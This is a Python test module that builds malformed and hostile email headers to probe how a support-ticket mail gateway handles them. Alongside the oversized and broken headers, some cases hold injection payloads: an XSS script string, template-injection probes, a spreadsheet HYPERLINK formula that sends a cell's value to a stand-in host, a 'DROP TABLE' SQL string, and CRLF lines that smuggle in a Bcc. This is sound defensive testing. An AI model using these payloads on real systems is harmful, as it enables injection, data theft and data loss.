"""B08, B13, B14, B25 to B28, B32: headers that are huge, odd, hostile or missing."""

from collections.abc import Iterator
from dataclasses import replace

from ..mail import ANY, SUPPORT, TICKET, Shape, Stamp

LIKELY = frozenset((TICKET,))


def shapes() -> Iterator[Shape]:
    """Yield the shapes of every header that matters."""
    yield from _huge()
    yield from _senders()
    yield from _recipients()
    yield from _subjects()
    yield from _dates()
    yield from _message_ids()
    yield from _lines()


def _with(case: str, name: str, well_formed: bool = True, **headers) -> Shape:
    fields = {key.replace("_", "-"): value for key, value in headers.items()}
    expect = LIKELY if well_formed else ANY

    def build(stamp: Stamp) -> bytes:
        return stamp.mail(headers={k: _fill(v, stamp) for k, v in fields.items()})

    return Shape(case, name, build, expect, well_formed)


def _fill(value, stamp: Stamp):
    if isinstance(value, tuple):
        return tuple(_fill(one, stamp) for one in value)
    if isinstance(value, str):
        return value.replace("SENDER", stamp.sender).replace("MARK", stamp.uuid)
    return value


def _huge() -> Iterator[Shape]:
    words = " ".join(f"=?utf-8?Q?w{number}=C3=A3o?=" for number in range(16000))
    many = ", ".join(f"p{number}@customer.example" for number in range(10000))
    trace = tuple(
        f"from a{number} by b; Sat, 22 Nov 2025 08:00:00 +0000"
        for number in range(2000)
    )
    yield _with("B08", "1 MB subject", False, Subject="s" * 2**20)
    yield _with("B08", "16 thousand encoded words", False, Subject=words)
    yield _with("B08", "encoded words in From", False, From=f"{words} <SENDER>")
    yield _with("B08", "10 thousand recipients", False, Cc=many)
    yield _with("B08", "brackets in From", False, From="(" * 5000 + " <SENDER>")
    yield _with("B08", "500 brackets in From", False, From="(" * 500 + " <SENDER>")
    yield _with("B08", "brackets in To", False, Cc="(" * 3000)
    yield _with("B08", "2 thousand Received", False, Received=trace)
    yield _with("B08", "1 MB unknown header", False, X_Spam="x" * 2**20)
    yield _with(
        "B08",
        "5 thousand references",
        False,
        References=" ".join(f"<r{number}@customer.example>" for number in range(5000)),
    )
    yield _with("B08", "2 MB Message-Id", False, Message_Id=f"<MARK{'i' * 2**21}@x>")
    yield _with(
        "B08",
        "64 KB parameters",
        False,
        Content_Type="text/plain; charset=utf-8; x=" + "y" * 2**16,
    )
    yield _with(
        "B08",
        "many parameters",
        False,
        Content_Type="text/plain; charset=utf-8" + "; a*0*=u''x" * 3000,
    )


def _senders() -> Iterator[Shape]:
    for name, value in {
        "comma in the name": '"Souza, Ana" <SENDER>',
        "bare address": "SENDER",
        "comment": "SENDER (Ana at work)",
        "coded name": "=?utf-8?B?Sm/Do28gTGltYQ==?= <SENDER>",
        "coded with comma": "=?utf-8?Q?Souza=2C_Ana?= <SENDER>",
        "name is an address": '"boss@store.example" <SENDER>',
        "upper case": "ANA <SENDER>",
        "4 byte name": "=?utf-8?B?8J+Yig==?= <SENDER>",
        "right to left": "=?utf-8?Q?=E2=80=AEana=E2=80=AC?= <SENDER>",
        "long name": '"' + "Ana " * 200 + '" <SENDER>',
    }.items():
        yield _with("B25", f"From: {name}", From=value)
    for name, value in {
        "missing": None,
        "empty": "",
        "two addresses": "SENDER, other@customer.example",
        "two headers": ("SENDER", "other@customer.example"),
        "group": "Customers: SENDER, b@customer.example;",
        "no address": "Ana Souza",
        "unclosed": "Ana <SENDER",
        "no domain": "Ana <ana>",
        "8-bit address": "Ana <jo\u00e3o@customer.example>",
        "line break": "=?utf-8?Q?Ana=0D=0ABcc:_victim@customer.example?= <SENDER>",
        "null": "<>",
    }.items():
        yield _with("B26", f"From: {name}", False, From=value)
    yield _with("B14", "Reply-To elsewhere", Reply_To="other@customer.example")
    yield _with("B14", "Reply-To a list", Reply_To="list@customer.example, v@x.example")
    yield _with("B14", "Reply-To broken", Reply_To="<<>>,,;")
    yield _with("B14", "Sender differs", Sender="assistant@customer.example")
    yield _with("B14", "Return-Path differs", Return_Path="<bounce@esp.example>")


def _recipients() -> Iterator[Shape]:
    crowd = ", ".join(f"cc{number}@customer.example" for number in range(60))
    yield _with("B13", "alias in Cc", To="ana@customer.example", Cc=SUPPORT)
    yield _with("B13", "60 Cc", Cc=crowd)
    yield _with("B13", "60 To", To=f"{SUPPORT}, {crowd}")
    yield _with("B13", "twice the alias", To=f"{SUPPORT}, {SUPPORT}")
    yield _with("B13", "alias with a name", To=f'"Support, the store" <{SUPPORT}>')
    yield _with("B13", "alias in upper case", To=SUPPORT.upper())
    yield _with(
        "B13", "Delivered-To only", To="undisclosed-recipients:;", Delivered_To=SUPPORT
    )
    yield _with("B13", "X-Original-To only", To=None, X_Original_To=SUPPORT)
    for name, value in {"no recipient": None, "broken recipient": "<<sup@"}.items():
        yield replace(_with("B13", name, False, To=value), only_mailbox=True)


def _subjects() -> Iterator[Shape]:
    for name, value in {
        "missing": None,
        "empty": "",
        "number": "Re: [#10001] MARK",
        "old number": "Re: Ticket 10001 #10001",
        "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "template": "{{ object.env.cr }} ${7*7} %(x)s {0.__class__} <t t-out='1'/>",
        "formula": '=HYPERLINK("http://x.example/?"&A2,"x")',
        "SQL": "'; DROP TABLE support_ticket; --",
        "emoji": "=?utf-8?B?8J+Yr/CfkqU=?=",
        "raw emoji": "😯💥 lamp",
        "two directions": "=?utf-8?Q?=E2=80=AEegarots?=",
        "line break": "=?utf-8?Q?lamp=0D=0ABcc:_victim@customer.example?=",
        "folded": "a lamp\r\n that is\r\n\tbroken",
        "10 KB": "lamp " * 2000,
        "only Re": "Re:",
        "broken coding": "=?utf-8?Q?lamp=?= =?utf-8?B?!!!?= =?utf-8?X?a?=",
        "twice": ("first", "second"),
        "zalgo": "l" + "\u0301" * 400 + "amp",
    }.items():
        case = "B12" if "number" in name else "B28"
        yield _with(case, f"Subject: {name}", Subject=value)


def _dates() -> Iterator[Shape]:
    for name, value in {
        "1970": "Thu, 01 Jan 1970 00:00:00 +0000",
        "2099": "Wed, 01 Jan 2099 00:00:00 +0000",
        "before 1970": "Mon, 01 Jan 1900 00:00:00 +0000",
        "missing": None,
        "empty": "",
        "garbage": "yesterday, about noon",
        "year 20000": "Sat, 01 Jan 20000 00:00:00 +0000",
        "year 0": "Sat, 01 Jan 0000 00:00:00 +0000",
        "far zone": "Sat, 22 Nov 2025 08:00:00 +9999",
        "wrong zone": "Sat, 22 Nov 2025 08:00:00 XYZ",
        "no zone": "Sat, 22 Nov 2025 08:00:00",
        "31 February": "Mon, 31 Feb 2025 08:00:00 +0000",
        "hour 25": "Sat, 22 Nov 2025 25:61:61 +0000",
        "twice": ("Sat, 22 Nov 2025 08:00:00 +0000", "Sun, 23 Nov 2025 08:00:00 +0000"),
    }.items():
        yield _with("B32", f"Date: {name}", Date=value)


def _message_ids() -> Iterator[Shape]:
    for name, value in {
        "missing": None,
        "empty": "",
        "no brackets": "MARK@customer.example",
        "no domain": "<MARK>",
        "spaces": "< MARK @ customer.example >",
        "quoted": '<"MARK odd"@customer.example>',
        "square brackets": "<[MARK]@customer.example>",
        "8-bit": "<MARKé@customer.example>",
        "2 KB": f"<MARK{'x' * 2000}@customer.example>",
        "folded": "\r\n <MARK@customer.example>",
        "two headers": ("<MARK@customer.example>", "<other-MARK@customer.example>"),
        "in upper case": "<MARK@CUSTOMER.EXAMPLE>",
    }.items():
        yield _with(
            "B16" if name == "missing" else "B15",
            f"Message-Id: {name}",
            Message_Id=value,
        )
    yield _with("B15", "In-Reply-To of nothing", In_Reply_To="<no@customer.example>")
    yield _with(
        "B15",
        "References of nothing",
        References="<a@customer.example> b c <<d>> <" + "e" * 500,
    )


def _lines() -> Iterator[Shape]:
    yield Shape("B08", "LF only", lambda s: s.mail().replace(b"\r\n", b"\n"))
    yield Shape(
        "B08", "CR only", lambda s: s.mail().replace(b"\r\n", b"\r"), ANY, False
    )
    yield Shape(
        "B08",
        "line without colon",
        lambda s: s.mail().replace(b"\r\nTo:", b"\r\nodd line\r\nTo:"),
        ANY,
        False,
    )
    yield Shape(
        "B08",
        "From line of mbox",
        lambda s: b"From ana Sat Nov 22 08:00:00 2025\r\n" + s.mail(),
    )
    yield Shape(
        "B08", "byte order mark", lambda s: b"\xef\xbb\xbf" + s.mail(), ANY, False
    )
    yield Shape(
        "B08", "empty header name", lambda s: s.mail(headers={"": "x"}), ANY, False
    )
    yield Shape(
        "B08",
        "no empty line",
        lambda s: s.mail().replace(b"\r\n\r\n", b"\r\n", 1),
        ANY,
        False,
    )
    yield Shape("B08", "one long line", lambda s: s.mail(s.text + "x" * 200000))
